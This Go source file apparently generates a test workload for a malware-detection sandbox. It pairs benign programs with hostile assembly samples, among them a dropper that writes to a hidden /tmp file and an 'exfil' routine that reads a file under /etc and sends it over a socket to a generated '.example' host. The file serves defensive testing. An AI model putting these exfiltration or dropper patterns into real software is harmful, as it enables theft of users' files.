package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"

	hth "repro"
	"repro/internal/corpus"
)

// The upload-open workload is what an hth-serve user sends: self-contained
// JobSpecs with no Setup hook, so every one can travel as a POST /jobs
// body. Each template below fixes the behaviour, and with it the
// verdict class the input table expects; the seed varies names, sizes
// and contents.
type uploadTemplate struct {
	name  string
	class string // expected verdict: "clean" or the highest severity, as JobResult.Verdict renders it
	build func(rng *rand.Rand) hth.JobSpec
}

// trivialProgram exits at once; exec targets point at it.
const trivialProgram = `
.text
_start:
    mov ebx, 0
    mov eax, 1
    int 0x80
`

var uploadTemplates = []uploadTemplate{
	{"elf-trojan", "HIGH", func(rng *rand.Rand) hth.JobSpec {
		// Logs its input to a hard-coded file and sends the file to a
		// hard-coded address; with no scripted peer the send reports
		// an unconnected socket, still High.
		return hth.JobSpec{
			Binaries: map[string][]byte{"/bin/trojan": corpus.ELFTrojan()},
			Path:     "/bin/trojan",
			Stdin:    []byte(word(rng) + " " + word(rng)),
		}
	}},
	{"elf-benign", "clean", func(rng *rand.Rand) hth.JobSpec {
		return hth.JobSpec{
			Binaries: map[string][]byte{"/bin/echoer": corpus.ELFBenign()},
			Path:     "/bin/echoer",
			Stdin:    text(rng, 16+rng.IntN(48)),
		}
	}},
	{"filter", "clean", func(rng *rand.Rand) hth.JobSpec {
		n := 64 + rng.IntN(448)
		path := "/bin/" + word(rng)
		return hth.JobSpec{
			Programs: map[string]string{path: fmt.Sprintf(`
.text
_start:
    mov ebx, 0
    mov ecx, buf
    mov edx, %d
    mov eax, 3
    int 0x80
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    mov eax, 4
    int 0x80
    hlt
.data
buf: .space %d
`, n, n)},
			Path:  path,
			Stdin: text(rng, n),
		}
	}},
	{"exec-hardcoded", "LOW", func(rng *rand.Rand) hth.JobSpec {
		path, tool := "/bin/"+word(rng), "/usr/bin/"+word(rng)
		return hth.JobSpec{
			Programs: map[string]string{path: fmt.Sprintf(`
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "%s"
`, tool), tool: trivialProgram},
			Path: path,
		}
	}},
	{"exec-user", "clean", func(rng *rand.Rand) hth.JobSpec {
		path, tool := "/bin/"+word(rng), "/usr/bin/"+word(rng)
		return hth.JobSpec{
			Programs: map[string]string{path: `
.text
_start:
    mov ebx, 0
    mov ecx, buf
    mov edx, 31
    mov eax, 3
    int 0x80
    mov ebx, buf
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
buf: .space 32
`, tool: trivialProgram},
			Path:  path,
			Stdin: []byte(tool),
		}
	}},
	{"dropper", "MEDIUM", func(rng *rand.Rand) hth.JobSpec {
		// Writes its input into a hard-coded file, then runs a
		// hard-coded tool.
		path, tool := "/bin/"+word(rng), "/usr/bin/"+word(rng)
		drop := "/tmp/." + word(rng)
		n := 32 + rng.IntN(224)
		return hth.JobSpec{
			Programs: map[string]string{path: fmt.Sprintf(`
.text
_start:
    mov ebx, 0
    mov ecx, buf
    mov edx, %d
    mov eax, 3
    int 0x80
    mov [len], eax
    mov ebx, drop
    mov ecx, 0
    mov eax, 8
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, [len]
    mov eax, 4
    int 0x80
    mov eax, 6
    int 0x80
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
drop: .asciz "%s"
prog: .asciz "%s"
len:  .space 4
buf:  .space %d
`, n, drop, tool, n), tool: trivialProgram},
			Path:  path,
			Stdin: text(rng, n),
		}
	}},
	{"exfil", "HIGH", func(rng *rand.Rand) hth.JobSpec {
		// Reads a hard-coded file and sends it to a hard-coded address.
		path, secret := "/bin/"+word(rng), "/etc/"+word(rng)
		n := 32 + rng.IntN(224)
		return hth.JobSpec{
			Programs: map[string]string{path: fmt.Sprintf(`
.text
_start:
    mov ebx, secret
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, %d
    mov eax, 3
    int 0x80
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [sock], eax
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    mov ebx, [sock]
    mov ecx, buf
    mov edx, %d
    mov eax, 4
    int 0x80
    hlt
.data
secret: .asciz "%s"
addr:   .asciz "%s.example:%d"
sock:   .space 4
scargs: .space 12
buf:    .space %d
`, n, n, secret, word(rng), 1024+rng.IntN(60000), n)},
			Files: map[string][]byte{secret: text(rng, n)},
			Path:  path,
		}
	}},
}

// uploadMix is the template of each input in one deck: the ELF trojan
// twice, every other template once. uploadVariants seeded variants of
// each make the deck.
var uploadMix = []int{0, 0, 1, 2, 3, 4, 5, 6}

const uploadVariants = 4

// uploadInputs generates the upload-open deck: every input carries its
// POST /jobs body, encoded once here so the client only sends bytes.
func uploadInputs(rng *rand.Rand) ([]*input, error) {
	var out []*input
	for v := 0; v < uploadVariants; v++ {
		for k, ti := range uploadMix {
			tp := uploadTemplates[ti]
			spec := tp.build(rng)
			// Eight uploaders, each sending every template across the
			// variants; a fixed assignment keeps the shards' shares of
			// the load the same for every seed.
			spec.Tenant = fmt.Sprintf("u%d", (v+k)%8)
			body, err := json.Marshal(spec)
			if err != nil {
				return nil, fmt.Errorf("encode %s: %w", tp.name, err)
			}
			out = append(out, &input{
				name:  fmt.Sprintf("%s-%d.%d", tp.name, v, k),
				class: tp.class,
				spec:  spec,
				body:  body,
			})
		}
	}
	return out, nil
}

// text returns n seeded printable bytes.
func text(rng *rand.Rand, n int) []byte {
	p := make([]byte, n)
	for i := range p {
		p[i] = byte(' ' + rng.IntN(95))
	}
	return p
}
